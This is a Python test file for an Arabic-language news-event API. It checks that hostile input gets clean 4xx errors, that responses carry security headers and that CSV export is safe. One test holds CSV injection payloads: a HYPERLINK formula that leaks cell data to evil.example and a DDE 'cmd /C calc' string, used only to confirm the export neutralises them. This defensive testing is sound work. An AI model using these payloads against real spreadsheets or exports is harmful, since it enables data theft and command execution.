"""Hostile input to the API: each is a clear 4xx, never a 500, and never a live formula or frame."""
from __future__ import annotations

import csv
import io
import json

from tests.serve.conftest import TOKEN

AUTH = {"X-Rasd-Token": TOKEN, "content-type": "application/json"}
ARABIC = "قصفت مدفعية النظام بلدة سراقب في ريف إدلب صباح اليوم، ما أدى إلى مقتل ثلاثة مدنيين."


def _post_raw(client, body: str):
    """POST a JSON text as written (json.dumps would not let a lone surrogate through)."""
    return client.post("/articles", content=body.encode("utf-8"), headers=AUTH)


def test_a_lone_surrogate_in_text_or_url_is_a_422_that_can_be_sent(client) -> None:
    for field in ("text", "url", "title", "source"):
        body = {"text": ARABIC, "published": "2018-05-01"}
        raw = json.dumps(body)[:-1] + f', "{field}": "{ARABIC[:10]} \\ud800 x"}}'
        if field == "text":
            raw = json.dumps({"published": "2018-05-01"})[:-1] + f', "text": "{ARABIC} \\udfff"}}'
        r = _post_raw(client, raw)
        assert r.status_code == 422, (field, r.status_code, r.text[:300])
        detail = r.json()["detail"]
        assert any(d["loc"] == ["body", field] and ("unicode" in d["msg"] or "surrogate" in d["msg"])
                   for d in detail), detail
        assert "\ufffd" in json.dumps(detail, ensure_ascii=False)  # the echo, made printable
    assert client.get("/health").json()["articles"] == 3  # nothing was stored


def test_implausible_publication_dates_are_refused(client) -> None:
    for day in ("0001-01-01", "9999-12-31", "1989-12-31", "2999-01-01"):
        r = client.post("/articles", json={"text": ARABIC, "published": day}, headers=AUTH)
        assert r.status_code == 422, (day, r.text)
        assert "implausible publication date" in r.text and day in r.text
    r = client.post("/articles", json={"text": ARABIC, "published": "1990-01-01"}, headers=AUTH)
    assert r.status_code == 201, r.text


def test_a_date_overflow_in_the_text_is_not_a_server_error(client) -> None:
    r = client.post("/articles", json={"text": "قبل 1000000 يوم " + ARABIC, "published": "2018-05-01"},
                    headers=AUTH)
    # stored without that date (once the extractor ignores it), else refused with the reason
    assert r.status_code in (200, 201) or (r.status_code == 422 and "extraction failed" in r.json()["detail"]), r.text
    assert client.get("/health").status_code == 200


def test_a_chunked_body_over_the_limit_is_a_413(client) -> None:
    def chunks():
        piece = b'{"text": "' + ("ق" * 4000).encode()
        for _ in range(40):  # 320 KB, over the fixture's 64 KiB, with no Content-Length
            yield piece

    r = client.post("/articles", content=chunks(), headers=AUTH)
    assert r.status_code == 413 and "request body over" in r.json()["detail"]


def test_every_response_carries_the_security_headers(client) -> None:
    for r in (client.get("/health"), client.get("/"), client.get("/docs"), client.get("/events/99999"),
              client.get("/export.csv"), client.post("/articles", content=b"x" * 70_000, headers=AUTH)):
        h = r.headers
        assert "default-src 'self'" in h["content-security-policy"] and "script-src 'self'" in h[
            "content-security-policy"], r.request.url
        assert "frame-ancestors 'none'" in h["content-security-policy"] and h["x-frame-options"] == "DENY"
        assert h["x-content-type-options"] == "nosniff" and h["referrer-policy"] == "no-referrer"


def test_docs_are_served_by_this_server(client) -> None:
    page = client.get("/docs")
    assert page.status_code == 200 and "swagger-ui-bundle.js" in page.text
    assert "http://" not in page.text and "https://" not in page.text and "<script>" not in page.text
    js = client.get("/docs-assets/swagger-ui-bundle.js")
    assert js.status_code == 200 and "SwaggerUIBundle" in js.text
    assert client.get("/docs-assets/swagger-ui.css").status_code == 200
    assert "openapi.json" in client.get("/docs-init.js").text


def test_csv_export_neutralises_formulas(client) -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"انقر")'
    r = client.post("/articles", json={"text": ARABIC, "published": "2018-05-01", "source": evil,
                                       "url": "+SUM(1+1)*cmd|' /C calc'!A0"}, headers=AUTH)
    assert r.status_code == 201, r.text
    rows = list(csv.DictReader(io.StringIO(client.get("/export.csv").text)))
    mine = [row for row in rows if evil in row["source"]]
    assert mine, rows
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", value
    assert mine[0]["url"] == "'+SUM(1+1)*cmd|' /C calc'!A0"


def test_a_tatweel_query_is_no_query(client) -> None:
    everything = client.get("/events").json()["total"]
    assert client.get("/events", params={"q": "ـــ"}).json()["total"] == everything == 2
    assert client.get("/events", params={"q": "دومـــا"}).json()["total"] == 1
    assert len(client.get("/export.jsonl", params={"q": "ـ"}).text.splitlines()) == everything


def test_the_csp_lets_the_configured_tile_server_in_and_nothing_else(store) -> None:
    from fastapi.testclient import TestClient

    from rasd.serve.api import create_app

    app = create_app(store, tiles="https://{s}.tile.example.org/{z}/{x}/{y}.png")
    with TestClient(app) as c:
        csp = c.get("/").headers["content-security-policy"]
    img = next(d for d in csp.split(";") if d.strip().startswith("img-src"))
    assert img.split() == ["img-src", "'self'", "data:", "https://*.tile.example.org"]
    assert "script-src 'self';" in csp and "unsafe" not in csp
